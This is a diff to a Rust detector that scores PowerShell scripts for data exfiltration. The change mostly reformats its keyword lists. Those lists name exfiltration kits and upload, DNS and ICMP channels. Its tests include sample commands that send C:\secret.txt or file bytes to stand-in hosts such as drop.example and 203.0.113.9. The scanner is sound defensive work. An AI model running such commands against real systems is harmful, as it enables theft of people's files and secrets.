@@ -17,9 +17,30 @@ use crate::services::{DROPS, PASTES};
 
 /// One of these is in every script that is looked at.
 pub const WORDS: [&str; 24] = [
-    "uploadfile", "uploaddata", "uploadstring", "uploadvalues", "-infile", "-method put", "-method post", "method = 'post'",
-    "-m post", "compress-archive", "createfromdirectory", "transfertype upload", "send-mailmessage", "ftpwebrequest", "downloadstring('http://pastebin",
-    "networkinformation.ping", "resolve-dnsname", "invoke-exfil", "dnsexfiltrator", "out-ftp", "smtpclient", "multipartformdatacontent", "-method 'put'", "-method \"post\"",
+    "uploadfile",
+    "uploaddata",
+    "uploadstring",
+    "uploadvalues",
+    "-infile",
+    "-method put",
+    "-method post",
+    "method = 'post'",
+    "-m post",
+    "compress-archive",
+    "createfromdirectory",
+    "transfertype upload",
+    "send-mailmessage",
+    "ftpwebrequest",
+    "downloadstring('http://pastebin",
+    "networkinformation.ping",
+    "resolve-dnsname",
+    "invoke-exfil",
+    "dnsexfiltrator",
+    "out-ftp",
+    "smtpclient",
+    "multipartformdatacontent",
+    "-method 'put'",
+    "-method \"post\"",
 ];
 
 /// What a script is worth telling for, lower case; none: nothing.
@@ -30,15 +51,25 @@ pub fn judge(text: &str) -> Option<Act> {
 
 /// Public kits, by what they call themselves in their calls.
 fn kit(text: &str) -> Option<Act> {
-    const KITS: [&str; 6] = ["invoke-exfiltration", "do-exfiltration", "invoke-dnsexfiltrator", "invoke-egresscheck", "invoke-powershellicmp", "out-dnstxt"];
+    const KITS: [&str; 6] = [
+        "invoke-exfiltration",
+        "do-exfiltration",
+        "invoke-dnsexfiltrator",
+        "invoke-egresscheck",
+        "invoke-powershellicmp",
+        "out-dnstxt",
+    ];
     KITS.iter().any(|kit| text.contains(kit)).then(|| Act::new("a script calls a kit for exfiltration", 4))
 }
 
 /// File bytes into echoes or names.
 fn channel(text: &str) -> Option<Act> {
-    let reads = ["get-content", "readallbytes", "readalltext", "[convert]::tobase64string", "tobase64string", "gc "].iter().any(|word| text.contains(word));
+    let reads = ["get-content", "readallbytes", "readalltext", "[convert]::tobase64string", "tobase64string", "gc "]
+        .iter()
+        .any(|word| text.contains(word));
     let ping = text.contains("networkinformation.ping") && text.contains(".send(");
-    let names = (text.contains("resolve-dnsname") || text.contains("nslookup")) && (text.contains("foreach") || text.contains("for(") || text.contains("for (") || text.contains("substring"));
+    let names = (text.contains("resolve-dnsname") || text.contains("nslookup"))
+        && (text.contains("foreach") || text.contains("for(") || text.contains("for (") || text.contains("substring"));
     match (reads, ping, names) {
         (true, true, _) => Some(Act::new("a script sends a file's bytes inside ICMP echoes", 4)),
         (true, _, true) => Some(Act::new("a script sends a file's bytes inside DNS names", 3)),
@@ -48,9 +79,34 @@ fn channel(text: &str) -> Option<Act> {
 
 fn upload(text: &str) -> Option<Act> {
     let any = |words: &[&str]| words.iter().any(|word| text.contains(word));
-    let web = any(&["invoke-webrequest", "invoke-restmethod", "iwr ", "irm ", "curl ", "wget ", "webrequest", "httpclient"]);
-    let method = any(&["-method put", "-method post", "-method 'put'", "-method 'post'", "-method \"put\"", "-method \"post\"", "-m post", "-m put", "postasync", "putasync", "method = 'post'", "method = 'put'", "method = \"post\""]);
-    let file = any(&["-infile", "get-content", "readallbytes", "readalltext", "tobase64string", "-form", "streamcontent", "get-childitem", "gc "]);
+    let web =
+        any(&["invoke-webrequest", "invoke-restmethod", "iwr ", "irm ", "curl ", "wget ", "webrequest", "httpclient"]);
+    let method = any(&[
+        "-method put",
+        "-method post",
+        "-method 'put'",
+        "-method 'post'",
+        "-method \"put\"",
+        "-method \"post\"",
+        "-m post",
+        "-m put",
+        "postasync",
+        "putasync",
+        "method = 'post'",
+        "method = 'put'",
+        "method = \"post\"",
+    ]);
+    let file = any(&[
+        "-infile",
+        "get-content",
+        "readallbytes",
+        "readalltext",
+        "tobase64string",
+        "-form",
+        "streamcontent",
+        "get-childitem",
+        "gc ",
+    ]);
     let (what, points) = if any(&["uploadfile(", "uploadfileasync(", ".uploadfile", "uploadfiletaskasync"]) {
         ("a script uploads a file by WebClient", 2)
     } else if any(&["uploaddata(", "uploadstring(", "uploadvalues("]) && (file || text.contains("http")) {
@@ -66,7 +122,11 @@ fn upload(text: &str) -> Option<Act> {
     } else {
         return None;
     };
-    let hosts: Vec<&str> = text.split([' ', '\'', '"', '(', '\n', '\r', '\t', '=', ',']).filter(|word| word.contains("://")).filter_map(host_of).collect();
+    let hosts: Vec<&str> = text
+        .split([' ', '\'', '"', '(', '\n', '\r', '\t', '=', ','])
+        .filter(|word| word.contains("://"))
+        .filter_map(host_of)
+        .collect();
     if !hosts.is_empty() && hosts.iter().all(|host| is_local(host)) && !what.contains("FTP") && !what.contains("file") {
         return None;
     }
@@ -91,9 +151,17 @@ fn pack(text: &str) -> Option<Act> {
     if defined || !call.contains(['\\', '$', '/', '.']) {
         return None;
     }
-    let people = ["userprofile", "env:appdata", "\\users\\", "documents", "desktop", "\\\\", "env:public"].iter().any(|word| call.contains(word));
-    let odd = call.split([' ', '"', '\'', ',', '(']).any(is_odd_place) || call.contains("env:temp") || call.contains("env:public");
-    let act = Act::new("a script packs files", 0).odd(people, 1, "of people's folders or of a share").odd(odd, 1, "where archives have no business");
+    let people = ["userprofile", "env:appdata", "\\users\\", "documents", "desktop", "\\\\", "env:public"]
+        .iter()
+        .any(|word| call.contains(word));
+    let odd = call.split([' ', '"', '\'', ',', '(']).any(is_odd_place)
+        || call.contains("env:temp")
+        || call.contains("env:public");
+    let act = Act::new("a script packs files", 0).odd(people, 1, "of people's folders or of a share").odd(
+        odd,
+        1,
+        "where archives have no business",
+    );
     (act.points > 0).then_some(act)
 }
 
@@ -108,8 +176,15 @@ mod tests {
     #[test]
     fn calls_that_send_are_told_and_reads_of_the_web_are_not() {
         assert!(points("(New-Object Net.WebClient).UploadFile('http://203.0.113.9/u', 'C:\\x.zip')") >= 4);
-        assert!(points("$c = Get-Content C:\\secret.txt; Invoke-WebRequest -Uri http://drop.example -Method POST -Body $c") >= 2);
-        assert!(points("$ping = New-Object System.Net.NetworkInformation.Ping; foreach($d in Get-Content -Path f -Encoding Byte) { $ping.Send('203.0.113.9', 1500, $d) }") >= 4);
+        assert!(
+            points("$c = Get-Content C:\\secret.txt; Invoke-WebRequest -Uri http://drop.example -Method POST -Body $c")
+                >= 2
+        );
+        assert!(
+            points(
+                "$ping = New-Object System.Net.NetworkInformation.Ping; foreach($d in Get-Content -Path f -Encoding Byte) { $ping.Send('203.0.113.9', 1500, $d) }"
+            ) >= 4
+        );
         assert_eq!(points("Invoke-WebRequest -Uri https://example.com/a.zip -OutFile a.zip"), -1);
         assert_eq!(points("Compress-Archive -Path .\\bin -DestinationPath .\\out.zip"), -1);
         assert!(points("Compress-Archive -Path $env:USERPROFILE -DestinationPath $env:TEMP\\a.zip") >= 2);
